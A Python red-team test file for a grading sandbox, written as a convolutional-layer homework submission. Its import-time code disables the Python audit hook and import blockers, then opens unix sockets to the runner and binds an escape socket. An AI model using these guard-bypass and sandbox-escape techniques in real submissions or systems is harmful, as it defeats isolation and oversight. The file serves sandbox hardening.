"""Red team: talk to the host or to another sandbox through a unix socket (abstract or in a folder).

What it tries: with the guards off (`ctypes`), `socket(AF_UNIX, SOCK_STREAM)`
and connect to the abstract address `@rt-redteam-listener` (the runner
listens there and counts connections), to `/tmp/rt-redteam-listener.sock`
(a filesystem socket the runner also listens on), then bind its own abstract
`@rt-escape-<pid>` for a later student; also `socket.socket(AF_UNIX)` at the
Python level first.  Functions are correct.

Attack worked if: the runner's listener got a connection, or `@rt-escape-`
shows in /proc/net/unix after the run.
Targets: conv_layers.
"""
# redteam-assignment: conv_layers
# redteam-expect: points<=33; no_connection
# redteam-setup: serial

import os
import struct

def _disable_python_guards():
    """Switch off the audit hook (swap its code for a no-op) and drop the import blocker."""
    import gc, sys, types
    done = []
    for obj in gc.get_objects():
        if type(obj) is types.FunctionType and obj.__closure__ and (
                obj.__name__ == "hook" or {"refuse_read_of", "refuse_write_to"} & set(obj.__code__.co_freevars)):
            names = obj.__code__.co_freevars
            source = ("def outer():\n" + "".join(f"    {name} = None\n" for name in names)
                      + "    def hook(event, args):\n        return (" + "".join(f"{name}, " for name in names)
                      + ") and None\n    return hook\n")
            namespace = {}
            exec(source, namespace)
            try:
                obj.__code__ = namespace["outer"]().__code__
                done.append("hook")
            except Exception:
                pass
    for finder in list(sys.meta_path):
        if type(finder).__name__ not in ("BuiltinImporter", "FrozenImporter", "PathFinder"):
            try:
                sys.meta_path.remove(finder)
                done.append("meta_path")
            except ValueError:
                pass
    return done

_DONE = []


def _address(name, abstract=True):
    path = (b"\0" if abstract else b"") + name
    return struct.pack("H", 1) + path, 2 + len(path)


def _try_python():
    import socket
    for target in ("\0rt-redteam-listener", "/tmp/rt-redteam-listener.sock"):
        try:
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.connect(target)
            sock.sendall(b"hello from a sandbox")
            _DONE.append("python connect")
        except Exception:
            pass


def _try_ctypes():
    _disable_python_guards()
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    for name, abstract in ((b"rt-redteam-listener", True), (b"/tmp/rt-redteam-listener.sock", False)):
        fd = libc.socket(1, 1, 0)
        if fd < 0:
            continue
        address, length = _address(name, abstract)
        if libc.connect(fd, address, length) == 0:
            libc.write(fd, b"hello", 5)
            _DONE.append("ctypes connect")
    fd = libc.socket(1, 1, 0)
    if fd >= 0:
        address, length = _address(b"rt-escape-%d" % os.getpid())
        if libc.bind(fd, address, length) == 0 and libc.listen(fd, 1) == 0:
            _DONE.append("bound")


for _attempt in (_try_python, _try_ctypes):
    try:
        _attempt()
    except BaseException:
        pass

import numpy as np  # noqa: E402


# --- honest implementations (copied from examples/conv_layers/correct.py) ---

def zero_pad(x, pad):
    return np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)), mode="constant")


def conv_output_size(in_size, filter_size, stride=1, pad=0, dilation=1):
    span = dilation * (filter_size - 1) + 1
    room = in_size - span + 2 * pad
    if room < 0 or room % stride != 0:
        raise ValueError(f"filter does not fit: ({in_size} - {span} + 2*{pad}) / {stride} + 1")
    return room // stride + 1


def conv_param_count(in_channels, num_filters, filter_size, bias=True):
    if isinstance(filter_size, tuple):
        height, width = filter_size
    else:
        height = width = filter_size
    return num_filters * (height * width * in_channels + (1 if bias else 0))


def conv_forward_naive(x, w, b, conv_param):
    stride, pad = conv_param["stride"], conv_param["pad"]
    N, C, H, W = x.shape
    F, _, HH, WW = w.shape
    H_out = 1 + (H + 2 * pad - HH) // stride
    W_out = 1 + (W + 2 * pad - WW) // stride
    x_pad = zero_pad(x, pad)
    out = np.zeros((N, F, H_out, W_out))
    for i in range(H_out):
        for j in range(W_out):
            window = x_pad[:, :, i * stride : i * stride + HH, j * stride : j * stride + WW]
            out[:, :, i, j] = np.tensordot(window, w, axes=([1, 2, 3], [1, 2, 3])) + b
    cache = (x, w, b, conv_param)
    return out, cache


def conv_backward_naive(dout, cache):
    x, w, b, conv_param = cache
    stride, pad = conv_param["stride"], conv_param["pad"]
    HH, WW = w.shape[2:]
    H_out, W_out = dout.shape[2:]
    x_pad = zero_pad(x, pad)
    dx_pad = np.zeros_like(x_pad)
    dw = np.zeros_like(w)
    db = dout.sum(axis=(0, 2, 3))
    for i in range(H_out):
        for j in range(W_out):
            rows = slice(i * stride, i * stride + HH)
            cols = slice(j * stride, j * stride + WW)
            dw += np.tensordot(dout[:, :, i, j], x_pad[:, :, rows, cols], axes=([0], [0]))
            dx_pad[:, :, rows, cols] += np.tensordot(dout[:, :, i, j], w, axes=([1], [0]))
    dx = dx_pad[:, :, pad : pad + x.shape[2], pad : pad + x.shape[3]]
    return dx, dw, db


def max_pool_forward_naive(x, pool_param):
    ph, pw, stride = pool_param["pool_height"], pool_param["pool_width"], pool_param["stride"]
    N, C, H, W = x.shape
    H_out = 1 + (H - ph) // stride
    W_out = 1 + (W - pw) // stride
    out = np.zeros((N, C, H_out, W_out))
    for i in range(H_out):
        for j in range(W_out):
            out[:, :, i, j] = x[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw].max(axis=(2, 3))
    cache = (x, pool_param)
    return out, cache


def max_pool_backward_naive(dout, cache):
    x, pool_param = cache
    ph, pw, stride = pool_param["pool_height"], pool_param["pool_width"], pool_param["stride"]
    dx = np.zeros_like(x)
    for i in range(dout.shape[2]):
        for j in range(dout.shape[3]):
            window = x[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw]
            mask = window == window.max(axis=(2, 3), keepdims=True)
            dx[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw] += mask * dout[:, :, i, j][:, :, None, None]
    return dx


if _DONE:
    raise RuntimeError("RT-" + "BREACH socket " + " ".join(_DONE))
